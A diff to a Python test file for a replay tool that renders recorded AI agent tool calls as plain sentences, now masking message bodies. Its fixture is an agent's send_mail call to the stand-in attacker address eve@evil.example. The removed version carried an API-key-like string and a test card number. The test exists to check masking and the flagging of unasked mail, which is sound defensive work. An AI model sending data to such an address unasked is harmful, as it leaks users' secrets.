@@ -11,6 +11,7 @@ from thoth.engine.rerun import Rerun
 from thoth.simulation import RecordedSession, ReplayClock, read_traces, replay
 from thoth.simulation.calls import ALONE
 from thoth.simulation.changes import sentence
+from thoth.simulation.masking import Masking
 from thoth.simulation.step import Replayer, replay_group
 
 from .recordings import CALL, NEW, OLD, trace, write
@@ -80,19 +81,16 @@ def test_a_session_that_shares_no_counter_has_a_ledger_of_its_own(tmp_path: Path
     assert all(session.group == ALONE for session in read_traces([tmp_path]))
 
 
-def test_an_example_is_a_sentence_with_its_reason_and_without_secrets(tmp_path: Path) -> None:
-    key = "sk-" + "proj-" + "A1b2C3d4E5f6G7h8I9j0" * 2
-    args = {"to": ["eve@evil.example"], "body": f"here: {key}, and my card 4111 1111 1111 1111"}
+def test_an_example_is_a_sentence_with_its_reason_and_without_texts(tmp_path: Path) -> None:
+    args = {"to": ["eve@evil.example"], "body": "what nobody else should read"}
     write(tmp_path / "x.jsonl", CALL | {"tool_name": "send_mail", "tool_args": args})
     carry = replayed(NEW, [tmp_path], old=OLD)
     ((_, (example,)),) = carry.tally.examples.items()
-    told = sentence(example, {"unasked": "nobody asked for mail to this address"})
-    assert told.startswith('On 2026-03-02 at 09:00 UTC bot called send_mail(to: ["eve@evil.example"], body: "here:')
-    assert told.endswith(
-        "It was allowed by declared; it would wait for owner: nobody asked for mail to this address (unasked)."
+    told = sentence(example, {"unasked": "nobody asked for mail to this address"}, Masking((carry.new,)))
+    assert told == (
+        'On 2026-03-02 at 09:00 UTC bot called send_mail(to: ["eve@evil.example"], body: [28 characters]).'
+        " It was allowed by declared; it would wait for owner: nobody asked for mail to this address (unasked)."
     )
-    assert "4111" not in told
-    assert key[-12:] not in told
 
 
 def test_tallies_of_groups_add_up_to_the_tally_of_all(tmp_path: Path) -> None:
